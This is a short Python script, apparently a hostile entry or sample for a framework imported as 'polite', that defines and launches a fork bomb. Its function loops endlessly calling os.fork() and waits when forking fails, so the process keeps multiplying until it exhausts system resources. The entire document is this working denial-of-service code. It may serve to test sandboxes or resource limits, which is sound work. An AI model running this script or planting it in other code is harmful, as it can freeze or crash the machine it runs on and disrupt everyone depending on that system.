"""Doubles itself as often as it can."""

import os
import time

from polite import play


def bomb(_message):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1000)


play(bomb)
